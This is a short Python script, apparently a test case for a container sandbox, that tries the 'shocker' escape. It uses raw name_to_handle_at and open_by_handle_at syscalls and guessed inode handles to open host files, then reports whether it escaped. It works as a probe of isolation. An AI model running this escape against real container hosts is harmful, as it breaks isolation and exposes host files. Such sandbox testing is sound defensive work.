# what: opens files by handle, around every path: the "shocker" way out of a container
# expect: ACCEPTED
import ctypes
import os
import platform
import struct

NAME_TO, OPEN_BY = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
call = libc.syscall
call.restype = ctypes.c_long
AT_FDCWD, EMPTY_PATH, HANDLE_FID = -100, 0x1000, 0x200

escaped = []
handles = [struct.pack("Ii", 8, 1) + struct.pack("II", inode, 0) for inode in (1, 2, 64, 96, 128, 256)]
for place in (b"/", b"/usr", b"/tmp", b"/etc/hosts", b"/proc", b"/dev/null", b"/run", b"/usr/bin/env"):
    for flags in (0, 0x400, EMPTY_PATH, HANDLE_FID, 1):
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
        mount = ctypes.c_int()
        if call(ctypes.c_long(NAME_TO), ctypes.c_long(AT_FDCWD), place, handle, ctypes.byref(mount), ctypes.c_long(flags)) == 0:
            escaped.append(f"a handle for {place} with {flags:#x}")
            handles.append(handle.raw)
for place in ("/", "/usr", "/tmp", "/proc", "/etc", "/dev/shm", "/run"):
    try:
        fd = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    for handle in handles:
        for flags in (os.O_RDONLY, os.O_PATH, os.O_RDWR):
            if call(ctypes.c_long(OPEN_BY), ctypes.c_long(fd), handle, ctypes.c_long(flags)) >= 0:
                escaped.append(f"a file of {place} by its handle")
    os.close(fd)
for handle in handles:
    if call(ctypes.c_long(OPEN_BY), ctypes.c_long(AT_FDCWD), handle, ctypes.c_long(0)) >= 0:
        escaped.append("a file by its handle")
print("ESCAPED: " + "; ".join(escaped) if escaped else "contained")
